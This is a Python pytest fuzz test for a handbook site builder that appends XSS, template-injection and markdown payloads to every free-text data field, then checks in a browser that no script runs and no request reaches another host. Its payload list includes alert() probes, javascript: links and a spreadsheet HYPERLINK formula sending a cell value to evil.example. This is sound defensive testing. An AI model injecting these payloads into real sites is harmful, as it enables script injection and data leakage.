"""Fuzz: hostile strings in every free-text field of every data file, one build, one
browser pass (issue 15).

Every string field that is not an id, a reference, a date, a vocabulary value or a quote
of the source (quotes must tile the source) gets one of the HOSTILE strings appended.
The copy must pass ``check`` and build; then, in Chromium against 127.0.0.1, every
element with a title (and every glossary term) is hovered, focused and tapped, search
results for the hostile text are opened, and any dialog or any request to another host
fails the test. The built HTML and the search index are also read directly.
"""

from __future__ import annotations

import functools
import http.server
import json
import re
import subprocess
import sys
import threading
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml
from playwright.sync_api import Error as PlaywrightError

from fixtures.project import copy_project

pytestmark = pytest.mark.browser

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "'><img src=http://evil.example/a.png>",
    "<script>alert(3)</script>",
    "{{ 7*7 }}{% if true %}模板{% endif %}",
    "![x](http://evil.example/b.png)",
    "[点我](javascript:alert(4))",
    "\n\n<img src=x onerror=alert(5)>\n\n![y](http://evil.example/c.png)\n\n",
    "&lt;img src=x onerror=alert(6)&gt;",
    '<iframe src="http://evil.example/"></iframe>',
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "`<b onmouseover=alert(7)>` {: onclick=alert(8) }",
    "<a href=javascript:alert(9) title='<img src=x onerror=alert(10)>'>链接</a>",
]
# Keys whose values are constrained (ids, references, vocabularies, dates, hashes) or must
# be found in the source (quotes, headings, ignored text, time phrases, corrections' from).
NOT_FREE_TEXT = {
    "id",
    "source",
    "sha256",
    "kind",
    "status",
    "roles",
    "leads",
    "is_also",
    "actors",
    "themes",
    "measures",
    "after",
    "links",
    "applies_to",
    "supersedes",
    "truncated_in",
    "severity",
    "target",
    "quote",
    "text",
    "context",
    "heading",
    "pattern",
    "from",
    "phrase",
    "verified_on",
    "effective",
    "rank",
    "certainty",
    "level",
    "stated",
    "title_editorial",
    "complete",
    "combinable",
    "years",
    "every",
    "date_rule",
    "period",
    "variants",
    "within",
    "when",
    "due",
    "date_kind",
    "event",
}
DATE_FACTS = {"date", "dates"}


class Injector:
    """Appends HOSTILE strings, in turn, to every free-text string in a YAML tree."""

    def __init__(self):
        self.count = 0

    def next(self) -> str:
        self.count += 1
        return HOSTILE[self.count % len(HOSTILE)]

    def walk(self, value, key: str = "", parent: str = ""):
        if isinstance(value, dict):
            out = {k: self.walk(v, k, key) for k, v in value.items()}
            if "quote" in value and "title" in value:  # a clause: its title may now differ from the source
                out["title_editorial"] = True
            return out
        if isinstance(value, list):
            return [self.walk(v, key, parent) for v in value]
        if isinstance(value, str) and key not in NOT_FREE_TEXT and not (key == "value" and parent in DATE_FACTS):
            return value + " " + self.next()
        return value


def hostile_project(dest: Path) -> tuple[Path, int]:
    root = copy_project(dest)
    injector = Injector()
    for path in sorted((root / "data").glob("*.yml")) + sorted((root / "data/documents").glob("*.yml")):
        data = yaml.safe_load(path.read_text("utf-8"))
        if path.name == "glossary.yml":  # keep every other term as written, so it is still marked in clause text
            data["terms"] = [
                injector.walk(t) if i % 2 else {**injector.walk(t), "term": t["term"]}
                for i, t in enumerate(data["terms"])
            ]
        else:
            data = injector.walk(data)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6), "utf-8")
    return root, injector.count


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> tuple[Path, Path, int, str]:
    """(project, site, strings injected, what ``check`` printed): the check's output is kept
    for the tests that read its warnings, rather than running the same check again."""
    root, injected = hostile_project(tmp_path_factory.mktemp("hostile") / "project")
    check = subprocess.run(
        [sys.executable, "-m", "handbook", "check"], cwd=root, capture_output=True, text=True, timeout=300
    )
    assert check.returncode == 0, check.stdout[-4000:] + check.stderr[-2000:]
    result = subprocess.run(
        [sys.executable, "-m", "handbook", "build"],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=900,
        env={**__import__("os").environ, "HANDBOOK_PDF": "off"},
    )
    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-4000:]
    return root, root / "site", injected, check.stdout


@pytest.fixture(scope="module")
def hostile_server(hostile_site):
    handler = functools.partial(
        type("Quiet", (http.server.SimpleHTTPRequestHandler,), {"log_message": lambda *a: None}),
        directory=str(hostile_site[1]),
    )
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()


def test_the_fuzz_reached_the_data(hostile_site):
    _root, _site, injected, warnings = hostile_site
    assert injected > 200  # every data file got hostile text
    assert "不会执行" in warnings  # the markup warning fires for the hostile text


class Elements(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_no_markup_from_data_in_any_page(hostile_site):
    site = hostile_site[1]
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        parser = Elements()
        parser.feed(page.read_text("utf-8"))
        for tag, attrs in parser.tags:
            assert tag not in ("iframe", "svg") or "evil" not in json.dumps(attrs), (page, tag, attrs)
            for name, value in attrs.items():
                value = value or ""
                assert not name.startswith("on"), (page, tag, attrs)
                # data-toc-label: a heading's plain-text name for the contents (handbook.outline
                # reads it as text and escapes it again)
                assert "evil.example" not in value or name in (
                    "title",
                    "aria-label",
                    "alt",
                    "data-md-component",
                    "data-toc-label",
                ), (
                    page,
                    tag,
                    attrs,
                )
                assert not value.strip().lower().startswith("javascript:"), (page, tag, attrs)
            if tag == "img":
                assert urlparse(attrs.get("src", "")).netloc in ("", "127.0.0.1"), (page, attrs)
        assert "49模板" not in page.read_text("utf-8"), page  # no template syntax was evaluated


def test_search_index_holds_text_not_markup(hostile_site):
    index = json.loads((hostile_site[1] / "search/search_index.json").read_text("utf-8"))
    for doc in index["docs"]:
        for field in ("title", "text"):
            value = doc[field]
            for needle in ("<img", "<script", "<svg", "<iframe", "onerror=alert"):
                if needle.startswith("<"):
                    assert needle not in value.lower(), (doc["location"], field, value[:300])


HOVER_TARGETS = "[title], abbr, .md-ellipsis, .md-header__topic, .hb-term"
TARGETS_PER_PAGE = 8  # per page; the hostile strings rotate, so eight per page over every page meet every kind


def watch(page, base: str, problems: list[str]) -> None:
    host = urlparse(base).netloc

    def on_dialog(dialog):
        problems.append(f"dialog: {dialog.message!r} on {page.url}")
        dialog.dismiss()

    def on_request(request):
        url = urlparse(request.url)
        if url.scheme in ("http", "https", "ws", "wss") and url.netloc != host:
            problems.append(f"request to {request.url} from {page.url}")

    page.on("dialog", on_dialog)
    page.on("request", on_request)


PAGES = [
    "",
    "roles/",
    "glossary/",
    "downloads/",
    "sources/",
    "jurisdictions/",
    "compare/duties/",
    "compare/sanctions/",
    "compare/circumstances/",
]


def page_list(site: Path) -> list[str]:
    """One page of each generated kind plus the fixed ones (paths follow the data)."""
    out = list(PAGES)
    for folder in ("roles", "jurisdictions", "sources", "checklists", "changes"):
        found = (
            sorted(p.parent.relative_to(site).as_posix() + "/" for p in (site / folder).glob("*/index.html"))
            if (site / folder).is_dir()
            else []
        )
        deeper = (
            sorted(p.parent.relative_to(site).as_posix() + "/" for p in (site / folder).glob("*/*/index.html"))
            if (site / folder).is_dir()
            else []
        )
        out += found[:1] + deeper[:1]
    return list(dict.fromkeys(out))


@pytest.mark.slow
@pytest.mark.parametrize("viewport", ["desktop", "phone"])
def test_hover_tap_and_search_run_no_script_and_load_nothing_foreign(browser, hostile_site, hostile_server, viewport):
    phone = viewport == "phone"
    context = browser.new_context(
        viewport={"width": 360, "height": 780} if phone else {"width": 1280, "height": 900},
        is_mobile=phone,
        has_touch=phone,
        locale="zh-CN",
    )
    page = context.new_page()
    problems: list[str] = []
    watch(page, hostile_server, problems)
    touched = 0
    try:
        paths = page_list(hostile_site[1])
        for path in paths[::4] if phone else paths:  # the phone pass samples every fourth page
            page.goto(hostile_server + path, wait_until="load")
            page.wait_for_timeout(50)
            targets = page.locator(HOVER_TARGETS)
            for i in range(min(targets.count(), TARGETS_PER_PAGE)):
                target = targets.nth(i)
                if not target.is_visible():
                    continue
                try:
                    if phone and target.evaluate("e => !e.closest('a')"):  # tapping a link would leave the page
                        target.tap(timeout=2000, force=True)
                    elif not phone:
                        target.hover(timeout=2000, force=True)
                    touched += 1
                except PlaywrightError:  # e.g. the search form's reset button, off screen on a phone
                    pass
                target.focus()
            # What a hover or tap could start (a script, a request, a dialog) starts at once;
            # one pause per page lets it reach the listeners before the page is left.
            page.wait_for_timeout(100)
            if page.url.rstrip("/") != (hostile_server + path).rstrip("/"):
                page.goto(hostile_server + path, wait_until="load")
            assert page.evaluate("document.querySelectorAll('.md-tooltip, .md-tooltip2').length") == 0 or page.evaluate(
                "[...document.querySelectorAll('.md-tooltip2__inner, .md-tooltip__inner')]"
                ".every(e => e.children.length === 0)"
            ), path
        for query in ("onerror", "模板", "链接"):  # words of the hostile text the search tokenizer keeps
            page.goto(f"{hostile_server}?q={query}", wait_until="load")
            page.wait_for_selector(".md-search-result__list > .md-search-result__item", timeout=15000)
            items = page.locator(".md-search-result__item a")
            assert items.count() > 0, query
            for i in range(min(items.count(), 10)):
                items.nth(i).hover(force=True)
                touched += 1
            page.wait_for_timeout(100)
            assert (
                page.locator(".md-search-result img, .md-search-result svg:not(.md-icon svg)").count() == 0
                or page.evaluate("[...document.querySelectorAll('.md-search-result img')].length") == 0
            ), query
    finally:
        context.close()
    assert touched > 50
    assert problems == [], "\n".join(problems[:20])


def test_glossary_definition_is_a_plain_title(hostile_site):
    """Terms kept as written are marked in clause text; their hostile definition sits in
    a title attribute (plain text for the browser), with Material's tooltips off."""
    root, site = hostile_site[0], hostile_site[1]
    assert "content.tooltips" not in re.sub(r"#.*", "", (root / "mkdocs.yml").read_text("utf-8"))
    html = "\n".join(p.read_text("utf-8") for p in sorted((site / "sources").glob("*/index.html")))
    titles = re.findall(r'<abbr title="([^"]*)" class="hb-term" tabindex="0">', html)
    assert titles and any("&lt;" in t for t in titles)
